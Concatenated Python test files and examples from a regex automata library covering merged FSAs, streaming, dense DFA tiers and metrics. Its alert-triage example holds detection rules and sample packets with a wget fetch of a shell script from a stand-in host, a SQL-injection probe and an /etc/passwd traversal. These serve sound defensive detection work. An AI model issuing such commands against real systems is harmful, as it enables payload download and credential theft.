    text = data.draw(input_strings())
    cut_count = data.draw(st.integers(min_value=0, max_value=4))
    cuts = sorted(data.draw(
        st.lists(st.integers(min_value=0, max_value=len(text)),
                 min_size=cut_count, max_size=cut_count)))

    mfsa = build(patterns)
    expected = IMfantEngine(mfsa).run(text).matches

    matcher = StreamingMatcher(mfsa)
    previous = 0
    for index, cut in enumerate(cuts + [len(text)]):
        chunk = text[previous:cut]
        if index % 2 == 0:
            matcher.feed(chunk)
        else:
            matcher.feed_mapping(matcher.scanner.scan_chunk(chunk).mapping)
        previous = cut
    assert matcher.matches == expected


@given(st.data())
@settings(max_examples=80, deadline=None)
def test_any_chunking_equals_oneshot(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = data.draw(input_strings())
    cut_count = data.draw(st.integers(min_value=0, max_value=4))
    cuts = sorted(data.draw(
        st.lists(st.integers(min_value=0, max_value=len(text)),
                 min_size=cut_count, max_size=cut_count)))

    mfsa = build(patterns)
    expected = IMfantEngine(mfsa).run(text).matches

    matcher = StreamingMatcher(mfsa)
    previous = 0
    for cut in cuts + [len(text)]:
        matcher.feed(text[previous:cut])
        previous = cut
    assert matcher.matches == expected
