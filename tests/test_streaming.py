"""Tests for the chunked streaming matcher."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.engine.imfant import IMfantEngine
from repro.engine.streaming import StreamingMatcher
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


class TestStreamingMatcher:
    def test_single_feed_equals_oneshot(self):
        mfsa = build(["abc", "ab"])
        text = "zabcab"
        matcher = StreamingMatcher(mfsa)
        matcher.feed(text)
        assert matcher.matches == IMfantEngine(mfsa).run(text).matches

    def test_match_spanning_chunks(self):
        mfsa = build(["hello"])
        matcher = StreamingMatcher(mfsa)
        assert matcher.feed("xxhel") == set()
        assert matcher.feed("loyy") == {(0, 7)}

    def test_offsets_are_absolute(self):
        mfsa = build(["ab"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("ab")
        matcher.feed("ab")
        assert matcher.matches == {(0, 2), (0, 4)}
        assert matcher.offset == 4

    def test_feed_returns_only_new_matches(self):
        mfsa = build(["a"])
        matcher = StreamingMatcher(mfsa)
        first = matcher.feed("a")
        second = matcher.feed("b")
        assert first == {(0, 1)}
        assert second == set()

    def test_empty_chunks_are_noops(self):
        mfsa = build(["ab"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("")
        matcher.feed(b"")
        assert matcher.offset == 0

    def test_empty_matching_rule_reports_everywhere(self):
        mfsa = build(["a*", "b"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("xb")
        assert {(0, 0), (0, 1), (0, 2), (1, 2)} <= matcher.matches

    def test_reset(self):
        mfsa = build(["ab"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("ab")
        matcher.reset()
        assert matcher.offset == 0
        assert matcher.matches == set()
        assert matcher.feed("ab") == {(0, 2)}

    def test_feed_all(self):
        mfsa = build(["abcd"])
        matcher = StreamingMatcher(mfsa)
        got = matcher.feed_all(["a", "b", "c", "d"])
        assert got == {(0, 4)}

    def test_pop_on_final_mode(self):
        mfsa = build(["ab+"])
        matcher = StreamingMatcher(mfsa, pop_on_final=True)
        matcher.feed("abbb")
        engine = IMfantEngine(mfsa, pop_on_final=True)
        assert matcher.matches == engine.run("abbb").matches


@given(st.data())
@settings(max_examples=80, deadline=None)
def test_any_chunking_equals_oneshot(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = data.draw(input_strings())
    cut_count = data.draw(st.integers(min_value=0, max_value=4))
    cuts = sorted(data.draw(
        st.lists(st.integers(min_value=0, max_value=len(text)),
                 min_size=cut_count, max_size=cut_count)))

    mfsa = build(patterns)
    expected = IMfantEngine(mfsa).run(text).matches

    matcher = StreamingMatcher(mfsa)
    previous = 0
    for cut in cuts + [len(text)]:
        matcher.feed(text[previous:cut])
        previous = cut
    assert matcher.matches == expected
