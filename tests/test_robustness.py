"""Robustness tests: pathological inputs must never crash the engines."""

import pytest

from repro.automata.optimize import compile_re_to_fsa
from repro.dfa import DfaEngine, determinize
from repro.engine.imfant import IMfantEngine
from repro.engine.infant import INfantEngine
from repro.engine.streaming import StreamingMatcher
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas

ALL_BYTES = bytes(range(256))


class TestFullByteRange:
    def test_imfant_handles_every_byte(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["a.b", "[^a]z"]))
        for backend in ("python", "numpy"):
            result = IMfantEngine(mfsa, backend=backend).run(ALL_BYTES * 2)
            assert result.stats.chars_processed == 512

    def test_dot_excludes_newline_everywhere(self):
        fsa = compile_re_to_fsa("a.b")
        engine = INfantEngine(fsa)
        assert engine.run(b"a\nb").matches == set()
        assert engine.run(bytes([ord("a"), 0, ord("b")])).matches == {(0, 3)}

    def test_dfa_engine_full_range(self):
        dfa = determinize(compile_ruleset_fsas(["\\x00\\xff"]))
        assert DfaEngine(dfa).run(bytes([0, 255])).matches == {(0, 2)}

    def test_negated_class_spans_high_bytes(self):
        fsa = compile_re_to_fsa("[^a]")
        assert INfantEngine(fsa).run(bytes([0xF0])).matches == {(0, 1)}


class TestDegenerateStreams:
    @pytest.mark.parametrize("stream", [b"", b"\x00", b"\xff" * 64])
    def test_every_engine_survives(self, stream):
        patterns = ["abc", "a*", "[x-z]{2}"]
        fsas = compile_ruleset_fsas(patterns)
        mfsa = merge_fsas(fsas)
        IMfantEngine(mfsa).run(stream)
        IMfantEngine(mfsa, backend="numpy").run(stream)
        for rule_id, fsa in fsas:
            INfantEngine(fsa, rule_id).run(stream)
        matcher = StreamingMatcher(mfsa)
        matcher.feed(stream)

    def test_long_dead_stream_keeps_state_small(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["needle"]))
        stats = IMfantEngine(mfsa).run(b"\x01" * 5000).stats
        assert stats.active_pair_total == 0
        assert stats.match_count == 0

    def test_repeated_runs_are_stateless(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab"]))
        engine = IMfantEngine(mfsa)
        assert engine.run("ab").matches == {(0, 2)}
        assert engine.run("b").matches == set()  # no carry-over
        assert engine.run("ab").matches == {(0, 2)}


class TestWideClasses:
    def test_dot_star_over_binary(self):
        fsa = compile_re_to_fsa("S.*E")
        filler = bytes(b for b in range(1, 255) if b not in (ord("S"), ord("E")))
        payload = b"S" + filler + b"E"
        # the filler contains \n (0x0a), which '.' excludes: no match
        assert INfantEngine(fsa).run(payload).matches == set()
        no_newline = bytes(b for b in filler if b != 0x0A)
        assert INfantEngine(fsa).run(b"S" + no_newline + b"E").matches

    def test_merging_wide_classes(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["[^\\n]{3}", ".{3}"]))
        result = IMfantEngine(mfsa).run(b"abcd")
        assert (0, 3) in result.matches and (1, 4) in result.matches
