"""Dense compiled-DFA tier tests (repro.engine.dense).

Covers the full promotion ladder: byte-class compression edge cases,
promotion gates (warm-and-stable only), mid-buffer de-opt parity with
the interpretive oracle, cache-flush invalidation, budget/allocation
failure stepping the guard ladder back to lazy, the SFA bulk kernel,
and the stride-2 / no-prefilter knobs.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cli import _demo_stream
from repro.engine.dense import DEFAULT_PROMOTE_AFTER, DenseTier
from repro.engine.imfant import IMfantEngine
from repro.engine.lazy import LazyConfigCache
from repro.engine.tables import MfsaTables, byte_classes
from repro.guard import faultinject
from repro.guard.budget import Budget, BudgetMeter
from repro.guard.errors import AllocationFailed, MemoryBudgetExceeded
from repro.pipeline.compiler import CompileOptions, compile_ruleset

pytestmark = pytest.mark.dense


def _compile_one(patterns):
    result = compile_ruleset(list(patterns), CompileOptions(emit_anml=False))
    assert len(result.mfsas) == 1
    return result.mfsas[0]


def _python_matches(mfsa, payload: bytes) -> set:
    return IMfantEngine(mfsa, backend="python").run(payload).matches


def _promoted_engine(mfsa, warmup: bytes, **kwargs) -> IMfantEngine:
    """A dense engine with the tier force-compiled from a warm cache."""
    engine = IMfantEngine(mfsa, backend="dense", **kwargs)
    engine.run(warmup, collect_stats=False)
    assert engine.promote_dense(force=True)
    assert engine.dense_tier is not None
    return engine


# ---------------------------------------------------------------------------
# Byte-class compression edge cases (engine/tables.py)
# ---------------------------------------------------------------------------


class TestByteClassesEdgeCases:
    def test_all_bytes_distinct_gives_256_classes(self):
        bc = byte_classes([[("t", byte)] for byte in range(256)])
        assert bc.num_classes == 256
        # class ids are assigned by first appearance → identity here
        assert list(bc.translate) == list(range(256))
        assert bc.representatives == tuple(range(256))

    def test_single_live_byte_gives_two_classes(self):
        by_symbol: list[list] = [[] for _ in range(256)]
        by_symbol[65] = [("edge",)]
        bc = byte_classes(by_symbol)
        assert bc.num_classes == 2
        assert bc.translate[65] == 1
        assert all(bc.translate[b] == 0 for b in range(256) if b != 65)
        # the representative of a class is its smallest member
        assert bc.representatives == (0, 65)

    def test_uniform_alphabet_collapses_to_one_class(self):
        shared = [("only",)]
        bc = byte_classes([shared for _ in range(256)])
        assert bc.num_classes == 1
        assert bc.representatives == (0,)
        assert set(bc.translate) == {0}

    def test_translate_drives_bytes_translate(self):
        by_symbol: list[list] = [[] for _ in range(256)]
        by_symbol[ord("a")] = [("a",)]
        by_symbol[ord("b")] = [("b",)]
        bc = byte_classes(by_symbol)
        classes = b"aXb".translate(bc.translate)
        assert classes[0] == bc.translate[ord("a")]
        assert classes[1] == 0
        assert classes[2] == bc.translate[ord("b")]

    def test_mfsa_tables_byte_classes_consistent(self):
        mfsa = _compile_one(["ab|cd"])
        tables = MfsaTables.build(mfsa)
        bc = tables.byte_classes()
        # bytes in one class must enable identical transition lists
        for byte in range(256):
            rep = bc.representatives[bc.translate[byte]]
            assert tables.by_symbol[byte] == tables.by_symbol[rep]


class TestLimbBoundaryRulesets:
    """>64 rules → multi-limb activation masks through the dense path."""

    @pytest.mark.parametrize("num_rules", [65, 70])
    def test_dense_matches_python_past_one_limb(self, num_rules):
        from repro.engine.tables import limbs_for

        patterns = [f"t{i:03d}" for i in range(num_rules)]
        mfsa = _compile_one(patterns)
        assert limbs_for(num_rules) >= 2  # masks straddle the uint64 word
        payload = b"xx".join(
            f"t{i:03d}".encode() for i in range(0, num_rules, 7)
        ) + b" t064 t000 junk"
        expect = _python_matches(mfsa, payload)
        engine = _promoted_engine(mfsa, payload)
        assert engine.run(payload).matches == expect
        # the numpy backend splits these masks across two uint64 limbs
        assert IMfantEngine(mfsa, backend="numpy").run(payload).matches == expect


# ---------------------------------------------------------------------------
# Promotion gates
# ---------------------------------------------------------------------------


class TestPromotionGates:
    def test_cold_engine_does_not_promote(self):
        engine = IMfantEngine(_compile_one(["abc"]), backend="dense")
        engine.run(b"xxabcxx")
        assert engine.dense_tier is None  # far below promote_after

    def test_auto_promotion_after_warm_stable_runs(self):
        engine = IMfantEngine(
            _compile_one(["ab"]), backend="dense", dense_promote_after=256
        )
        payload = b"xab" * 400
        engine.run(payload, collect_stats=False)
        # one run is enough: >256 lazy bytes at a near-perfect hit rate
        assert engine.dense_tier is not None
        assert engine.run(payload).matches == _python_matches(
            _compile_one(["ab"]), payload
        )

    def test_gate_rejects_cold_cache_without_force(self):
        engine = IMfantEngine(_compile_one(["ab"]), backend="dense")
        engine.run(b"a")  # hit rate ~0: everything is a miss
        assert not engine.promote_dense()
        assert engine.dense_tier is None

    def test_force_promotion_skips_gates(self):
        engine = IMfantEngine(_compile_one(["ab"]), backend="dense")
        engine.run(b"a")
        assert engine.promote_dense(force=True)
        assert engine.dense_tier is not None and engine.dense_tier.valid()

    def test_build_rejects_bad_stride(self):
        engine = IMfantEngine(_compile_one(["ab"]), backend="dense")
        engine.run(b"ab")
        with pytest.raises(ValueError):
            DenseTier.build(engine.lazy_cache, stride=3)


# ---------------------------------------------------------------------------
# De-opt parity and flush invalidation
# ---------------------------------------------------------------------------

DEOPT_PATTERNS = ("GET /[a-z]+", "qwzjv", "ab*c")


class TestDeoptParity:
    def test_mid_buffer_deopt_agrees_with_python(self):
        mfsa = _compile_one(DEOPT_PATTERNS)
        # warm only on a prefix: the suffix visits configs the compiled
        # region has never seen, forcing mid-buffer de-opts
        payload = _demo_stream(list(DEOPT_PATTERNS), 4096, seed=11)
        engine = _promoted_engine(mfsa, payload[:16])
        run = engine.run(payload)
        assert run.matches == _python_matches(mfsa, payload)
        assert engine._deopt_since_build > 0  # the de-opt path really ran

    @given(st.data())
    @settings(max_examples=25, deadline=None)
    def test_deopt_cut_points_property(self, data):
        """Promote at an arbitrary hypothesis-drawn warm-up cut: matches
        must stay byte-identical wherever the compiled region ends."""
        mfsa = _compile_one(DEOPT_PATTERNS)
        payload = _demo_stream(list(DEOPT_PATTERNS), 1024, seed=13)
        cut = data.draw(st.integers(min_value=0, max_value=len(payload)))
        engine = IMfantEngine(mfsa, backend="dense")
        if cut:
            engine.run(payload[:cut], collect_stats=False)
        engine.promote_dense(force=True)
        assert engine.run(payload).matches == _python_matches(mfsa, payload)

    def test_flush_invalidation_recovers(self):
        """A mid-scan cache flush renumbers config ids: the tier must
        invalidate and the scan re-answer lazily — same matches."""
        mfsa = _compile_one(DEOPT_PATTERNS)
        payload = _demo_stream(list(DEOPT_PATTERNS), 4096, seed=17)
        engine = IMfantEngine(
            mfsa, backend="dense", lazy_cache_size=16, lazy_eviction="flush"
        )
        engine.run(payload[:64], collect_stats=False)
        engine.promote_dense(force=True)
        flushes_before = engine.lazy_cache.stats.flushes
        run = engine.run(payload)
        assert run.matches == _python_matches(mfsa, payload)
        assert engine.lazy_cache.stats.flushes > flushes_before
        tier = engine.dense_tier
        assert tier is None or tier.valid()  # stale tiers never survive


# ---------------------------------------------------------------------------
# Budget / allocation failure → guard ladder
# ---------------------------------------------------------------------------


@pytest.mark.guard
class TestDenseGuard:
    def test_meter_charges_table_before_allocation(self):
        engine = IMfantEngine(_compile_one(["ab"]), backend="dense")
        engine.run(b"ab" * 64)
        meter = BudgetMeter(Budget(max_memory_bytes=1))
        with pytest.raises(MemoryBudgetExceeded):
            DenseTier.build(engine.lazy_cache, meter=meter)

    def test_budgeted_promotion_disables_not_crashes(self):
        engine = IMfantEngine(
            _compile_one(["ab"]),
            backend="dense",
            dense_budget=Budget(max_memory_bytes=1),
        )
        payload = b"ab" * 200
        engine.run(payload, collect_stats=False)
        engine._last_lazy_hit_rate = 1.0  # pass the warmth gate
        assert not engine.promote_dense()
        assert engine._dense_disabled
        assert engine.run(payload).matches == _python_matches(
            _compile_one(["ab"]), payload
        )

    def test_injected_alloc_failure_steps_ladder_to_lazy(self):
        from repro.guard.degrade import GuardedMatcher

        patterns = ["ab"]
        mfsas = [_compile_one(patterns)]
        matcher = GuardedMatcher(mfsas, backend="dense", dense_promote_after=256)
        matcher._ensure_engines()  # construct before arming the fault
        payload = b"xab" * 400
        with faultinject.inject("alloc", "dense"):
            first = matcher.run(payload)  # auto-promotion fails inside
        assert first.backend == "dense"  # the failing run still answered
        assert first.matches == _python_matches(mfsas[0], payload)
        assert matcher.backend == "lazy"
        assert any(
            step.reason.startswith("dense-promotion-failed")
            for step in matcher.degradations
        )
        second = matcher.run(payload)
        assert second.backend == "lazy"
        assert second.matches == first.matches


# ---------------------------------------------------------------------------
# SFA bulk kernel
# ---------------------------------------------------------------------------


@pytest.mark.sfa
class TestSfaBulkKernel:
    @pytest.mark.parametrize("name", ["tokens_exact", "dotstar_rules"])
    def test_bulk_mapping_equals_interpretive(self, name):
        from repro.datasets import load_builtin
        from repro.engine.sfa import SfaScanner

        patterns = list(load_builtin(name).patterns)
        mfsa = _compile_one(patterns)
        payload = _demo_stream(patterns, 3072, seed=5)
        interp = SfaScanner(mfsa).scan_chunk(payload, collect_stats=True)
        bulk_scanner = SfaScanner(mfsa)
        cold = bulk_scanner.scan_chunk(payload, collect_stats=False)
        warm = bulk_scanner.scan_chunk(payload, collect_stats=False)
        assert cold.mapping == interp.mapping
        assert warm.mapping == interp.mapping

    def test_bulk_disabled_on_alloc_failure_falls_back(self):
        from repro.engine.sfa import SfaScanner

        mfsa = _compile_one(["ab", "cd"])
        payload = b"xxabxxcdxx" * 20
        scanner = SfaScanner(mfsa)
        expect = SfaScanner(mfsa).scan_chunk(payload, collect_stats=True).mapping
        with faultinject.inject("alloc", "dense"):
            got = scanner.scan_chunk(payload, collect_stats=False)
        assert got.mapping == expect
        assert scanner._bulk.disabled  # interpretive fallback from now on
        again = scanner.scan_chunk(payload, collect_stats=False)
        assert again.mapping == expect


# ---------------------------------------------------------------------------
# Knobs: stride-2 table, literal prefilter
# ---------------------------------------------------------------------------


class TestDenseKnobs:
    @pytest.mark.parametrize("stride,prefilter", [(2, True), (1, False), (2, False)])
    def test_knobs_preserve_matches(self, stride, prefilter):
        mfsa = _compile_one(DEOPT_PATTERNS)
        payload = _demo_stream(list(DEOPT_PATTERNS), 4096, seed=23)
        engine = _promoted_engine(
            mfsa, payload, dense_stride=stride, dense_prefilter=prefilter
        )
        assert engine.run(payload).matches == _python_matches(mfsa, payload)

    def test_prefilter_skips_self_loop_runs(self):
        mfsa = _compile_one(["needle"])
        noise = b"x" * 2048
        payload = noise + b"needle" + noise
        engine = IMfantEngine(mfsa, backend="dense")
        engine.run(payload, collect_stats=False)
        engine.promote_dense(force=True)
        outcome = engine.dense_tier.scan(payload, start_config=0)
        assert outcome.consumed == len(payload)
        assert outcome.skipped_bytes > 0

    def test_default_promote_after_is_sane(self):
        assert DEFAULT_PROMOTE_AFTER >= 4096  # promotion is for warm engines
