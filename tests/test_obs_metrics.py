"""Unit tests for the metrics registry (repro.obs.metrics)."""

from __future__ import annotations

import threading

import pytest

import repro.obs as obs
from repro.obs.metrics import (
    DEFAULT_RESERVOIR,
    DEFAULT_SAMPLE_STRIDE,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    merge_snapshots,
    quantiles_from_snapshot,
)


def test_counter_semantics():
    c = Counter("hits", help="h")
    c.inc()
    c.inc(2.5)
    assert c.value == 3.5
    with pytest.raises(ValueError):
        c.inc(-1)
    assert c.snapshot() == {"kind": "counter", "name": "hits", "value": 3.5}


def test_gauge_semantics():
    g = Gauge("depth")
    g.set(10)
    g.inc(5)
    g.dec(3)
    assert g.value == 12.0


def test_histogram_bucketing_edges():
    h = Histogram("sizes", bounds=(1, 2, 4))
    for value in (0, 1, 2, 3, 4, 5, 100):
        h.observe(value)
    # per-bucket: <=1, <=2, <=4, +Inf
    assert h.counts == [2, 1, 2, 2]
    assert h.count == 7
    assert h.sum == 115.0
    assert h.min == 0
    assert h.max == 100
    assert h.mean == pytest.approx(115 / 7)
    cumulative = h.cumulative_buckets()
    assert cumulative == [(1.0, 2), (2.0, 3), (4.0, 5), (float("inf"), 7)]


def test_histogram_rejects_bad_bounds():
    with pytest.raises(ValueError):
        Histogram("empty", bounds=())
    with pytest.raises(ValueError):
        Histogram("dupes", bounds=(1, 1, 2))


def test_registry_get_or_create_and_kind_conflict():
    reg = MetricsRegistry()
    c1 = reg.counter("x")
    c2 = reg.counter("x")
    assert c1 is c2
    with pytest.raises(TypeError):
        reg.gauge("x")
    assert reg.get("x") is c1
    assert reg.get("missing") is None


def test_registry_snapshot_sorted_by_name():
    reg = MetricsRegistry()
    reg.counter("zeta").inc()
    reg.histogram("alpha", bounds=(1,)).observe(0)
    reg.gauge("mid").set(3)
    names = [inst.name for inst in reg.instruments()]
    assert names == ["alpha", "mid", "zeta"]
    snap = reg.as_dict()
    assert snap["zeta"]["value"] == 1.0
    assert snap["alpha"]["count"] == 1


def test_histogram_thread_safety():
    h = Histogram("con", bounds=(10,))

    def worker():
        for i in range(1000):
            h.observe(i % 20)

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert h.count == 4000
    assert sum(h.counts) == 4000


def test_engine_sampler_disabled_returns_none():
    obs.disable()
    assert obs.engine_sampler("imfant") is None


def test_engine_sampler_creates_instruments():
    with obs.capture(stride=4) as cap:
        sampler = obs.engine_sampler("imfant")
        assert sampler is not None
        assert sampler.stride == 4
        sampler.observe(active_pairs=3, frontier_width=2, transitions=9)
    assert cap.registry.get("imfant_active_set_size").count == 1
    assert cap.registry.get("imfant_frontier_width").sum == 2
    assert cap.registry.get("imfant_transitions_per_byte").max == 9
    assert cap.registry.get("imfant_samples_total").value == 1


def test_sample_stride_validation_and_default():
    assert obs.sample_stride() == DEFAULT_SAMPLE_STRIDE
    with pytest.raises(ValueError):
        obs.set_sample_stride(0)


def test_merge_snapshots_counters_and_histograms():
    a = Histogram("h", bounds=(1, 2))
    b = Histogram("h", bounds=(1, 2))
    a.observe(0)
    a.observe(5)
    b.observe(2)
    merged = merge_snapshots([a.snapshot(), b.snapshot()])
    assert merged["counts"] == [1, 1, 1]
    assert merged["count"] == 3
    assert merged["sum"] == 7.0
    assert merged["min"] == 0
    assert merged["max"] == 5

    c1, c2 = Counter("c"), Counter("c")
    c1.inc(2)
    c2.inc(3)
    assert merge_snapshots([c1.snapshot(), c2.snapshot()])["value"] == 5.0

    with pytest.raises(ValueError):
        merge_snapshots([a.snapshot(), Histogram("h", bounds=(9,)).snapshot()])
    with pytest.raises(ValueError):
        merge_snapshots([])


# -- quantiles & cross-process merging ---------------------------------------


def test_histogram_quantiles_exact_under_reservoir():
    h = Histogram("lat", bounds=(10, 100))
    for value in range(1, 101):  # 1..100, well under DEFAULT_RESERVOIR
        h.observe(value)
    assert h.quantile(0.0) == 1
    assert h.quantile(0.5) == 51  # nearest-rank on 100 ordered values
    assert h.quantile(0.99) == 100
    assert h.quantile(1.0) == 100
    qs = h.quantiles()
    assert set(qs) == {"p50", "p90", "p95", "p99"}
    with pytest.raises(ValueError):
        h.quantile(1.5)
    assert Histogram("empty", bounds=(1,)).quantile(0.5) is None


def test_histogram_reservoir_decimation_bounds_memory():
    h = Histogram("big", bounds=(1 << 20,))
    n = DEFAULT_RESERVOIR * 4 + 7
    for value in range(n):
        h.observe(float(value))
    snap = h.snapshot()
    assert len(snap["values"]) <= DEFAULT_RESERVOIR
    assert snap["sample_stride"] >= 4
    # deterministic decimation keeps every stride-th observation, so the
    # approximate median stays within one stride of the true one
    assert h.quantile(0.5) == pytest.approx(n / 2, rel=0.05)


def test_quantiles_from_snapshot_with_and_without_values():
    h = Histogram("q", bounds=(2, 8, 32))
    for value in (1, 2, 3, 5, 9, 20, 40):
        h.observe(value)
    snap = h.snapshot()
    exact = quantiles_from_snapshot(snap)
    assert exact["p50"] == 5  # from the reservoir: exact nearest-rank
    # strip the reservoir: must fall back to bucket interpolation and
    # still land inside the right bucket
    coarse = dict(snap)
    del coarse["values"]
    approx = quantiles_from_snapshot(coarse)
    assert 2 <= approx["p50"] <= 9
    assert approx["p99"] <= snap["max"]


def _observe_in_child(args):
    """Child-process body: build a histogram, ship its snapshot home."""
    lo, hi = args
    h = Histogram("lat", bounds=(64, 256, 1024))
    for value in range(lo, hi):
        h.observe(float(value))
    return h.snapshot()


def test_merge_snapshots_across_forked_processes():
    """Snapshots from fork-isolated workers merge associatively and keep
    quantiles within the documented decimation error."""
    import multiprocessing

    ranges = [(0, 500), (500, 1000), (1000, 1500)]
    ctx = multiprocessing.get_context("fork")
    with ctx.Pool(processes=3) as pool:
        snaps = pool.map(_observe_in_child, ranges)

    merged = merge_snapshots(snaps)
    assert merged["count"] == 1500
    assert merged["min"] == 0.0 and merged["max"] == 1499.0
    assert merged["sum"] == sum(range(1500))
    # associativity: ((a+b)+c) == (a+(b+c)) on every aggregate field
    left = merge_snapshots([merge_snapshots(snaps[:2]), snaps[2]])
    right = merge_snapshots([snaps[0], merge_snapshots(snaps[1:])])
    for key in ("count", "sum", "min", "max", "counts"):
        assert left[key] == right[key] == merged[key]
    # 1500 observations exceed DEFAULT_RESERVOIR, so the merged quantile
    # is decimated — but must stay within one coarsened stride
    q = quantiles_from_snapshot(merged)
    assert q["p50"] == pytest.approx(750, rel=0.05)
    assert q["p99"] == pytest.approx(1485, rel=0.05)
