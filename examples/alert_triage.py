"""Alert triage: streaming chunked matching + span recovery.

A security-monitoring flavoured walk through the library's online
features: network data arrives in packets (chunks), the MFSA matcher
carries state across them, and when a rule fires, the exact matched span
is recovered for the analyst — with a literal prefilter shown as the
low-cost first stage.

Run:  python examples/alert_triage.py
"""

from repro import (
    CompileOptions,
    PrefilterEngine,
    SpanFinder,
    StreamingMatcher,
    compile_ruleset,
)

RULES = [
    "union[ ]+select",               # SQLi probe
    "(wget|curl)[ ]+http://[a-z.]+", # dropper fetch
    "etc/(passwd|shadow)",           # path traversal target
    "eval\\(base64_decode",          # obfuscated PHP
]

#: "Packets": the dropper fetch is split across two chunks on purpose.
PACKETS = [
    b"GET /search?q=1 union sel",
    b"ect password FROM users HTTP/1.1\r\n",
    b"POST /upload c=wget http",
    b"://evil.example/x.sh\r\n",
    b"GET /../../etc/passwd HTTP/1.1\r\n",
    b"benign traffic benign traffic\r\n",
]


def main() -> None:
    stream = b"".join(PACKETS)

    # Stage 1 — cheap literal gate: which rules can fire at all?
    prefilter = PrefilterEngine(RULES)
    _, stats = prefilter.run(stream)
    print(f"literal prefilter: {stats.rules_skipped}/{stats.total_rules} rules "
          f"eliminated without running their automata")

    # Stage 2 — streaming MFSA matching, packet by packet.
    compiled = compile_ruleset(RULES, CompileOptions(merging_factor=0, emit_anml=False))
    matcher = StreamingMatcher(compiled.mfsas[0])
    print("\npacket-by-packet alerts (first completion per rule per packet):")
    for index, packet in enumerate(PACKETS):
        fired = matcher.feed(packet)
        first_per_rule: dict[int, int] = {}
        for rule_id, end in fired:
            first_per_rule[rule_id] = min(end, first_per_rule.get(rule_id, end))
        for rule_id, end in sorted(first_per_rule.items()):
            print(f"  packet {index}: rule {rule_id} ({RULES[rule_id]!r}) "
                  f"completed at stream offset {end}")

    # Stage 3 — span recovery for the report.  Unbounded tails (the
    # [a-z.]+ in rule 1) yield one match per extension; the triage report
    # keeps the longest span per (rule, start).
    print("\nmatched spans (longest per rule and start):")
    finders = {rule_id: SpanFinder(fsa) for rule_id, fsa in enumerate(compiled.fsas)}
    longest: dict[tuple[int, int], int] = {}
    for rule_id, end in matcher.matches:
        for start in finders[rule_id].starts_for_end(stream, end):
            key = (rule_id, start)
            longest[key] = max(end, longest.get(key, end))
    for (rule_id, start), end in sorted(longest.items()):
        excerpt = stream[start:end].decode("latin-1")
        print(f"  rule {rule_id}: bytes [{start}:{end}] = {excerpt!r}")

    # Sanity: chunked matching equals a single-shot scan.
    oneshot = StreamingMatcher(compiled.mfsas[0])
    oneshot.feed(stream)
    assert oneshot.matches == matcher.matches
    print("\n(chunked and single-shot matching agree)")


if __name__ == "__main__":
    main()
