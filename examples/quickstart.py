"""Quickstart: compile a small ruleset into one MFSA and match a stream.

Run:  python examples/quickstart.py
"""

from repro import CompileOptions, IMfantEngine, compile_ruleset

# A ruleset with visible similarity: the patterns share the "hello w" and
# "orld" material the merger exploits.
RULES = [
    "hello world",
    "hello w[aeiou]rld",
    "he(llo|y) world",
    "goodbye world",
]

STREAM = b"...hello world...hey world...hello wurld...goodbye world..."


def main() -> None:
    # 1. Compile: front-end -> FSAs -> single-FSA optimisation -> merge all
    #    four rules into a single Multi-RE FSA (merging_factor=0 == "all").
    result = compile_ruleset(RULES, CompileOptions(merging_factor=0))
    mfsa = result.mfsas[0]

    report = result.merge_report
    print(f"rules merged      : {mfsa.num_rules}")
    print(f"states            : {report.input_states} -> {report.output_states} "
          f"({report.state_compression:.1f}% compression)")
    print(f"transitions       : {report.input_transitions} -> {report.output_transitions} "
          f"({report.transition_compression:.1f}% compression)")

    # 2. Execute with iMFAnt: one pass over the stream matches every rule.
    engine = IMfantEngine(mfsa)
    run = engine.run(STREAM)
    print(f"transitions tried : {run.stats.transitions_examined}")
    print(f"matches           : {len(run.matches)}")
    for rule, end in sorted(run.matches):
        start_hint = STREAM[:end].decode()[-16:]
        print(f"  rule {rule} ({RULES[rule]!r}) ends at byte {end}: ...{start_hint}")

    # 3. The extended-ANML artifact (the paper's back-end output).
    assert result.anml is not None
    print("\nfirst lines of the extended-ANML output:")
    for line in result.anml[0].splitlines()[:6]:
        print("  " + line)


if __name__ == "__main__":
    main()
