"""Log scanning with a hand-written ruleset + partial-CC merging ablation.

Shows the library on user-authored rules (rather than generated suites):
a handful of log-signature EREs are merged and run over a synthetic log,
comparing the default exact-CC merging with the opt-in alphabet-
stratification extension (partial character-class merging, §VI-A).

Run:  python examples/log_scanner.py
"""

import random

from repro import CompileOptions, IMfantEngine, compile_ruleset

RULES = [
    "ERROR[: ]+db(conn|pool) timeout",
    "ERROR[: ]+disk full on /dev/sd[a-f]",
    "WARN[: ]+retry [0-9]{1,3} of [0-9]{1,3}",
    "WARN[: ]+retry budget exhausted",
    "auth failure for user [a-z_]+",
    "auth success for user [a-z_]+",
    "GET /api/v[12]/[a-z]+ 50[0-3]",
    "GET /api/v[12]/[a-z]+ 200",
]

LOG_LINES = [
    "INFO: all systems nominal",
    "ERROR: dbconn timeout",
    "ERROR: disk full on /dev/sdc",
    "WARN: retry 12 of 100",
    "auth failure for user mallory",
    "auth success for user alice",
    "GET /api/v2/users 503",
    "GET /api/v1/items 200",
    "WARN: retry budget exhausted",
]


def build_log(lines: int = 300, seed: int = 42) -> bytes:
    rng = random.Random(seed)
    return "\n".join(rng.choice(LOG_LINES) for _ in range(lines)).encode()


def main() -> None:
    log = build_log()

    results = {}
    for label, stratify in (("exact-CC merging", False), ("partial-CC merging", True)):
        compiled = compile_ruleset(
            RULES,
            CompileOptions(merging_factor=0, emit_anml=False, stratify_charclasses=stratify),
        )
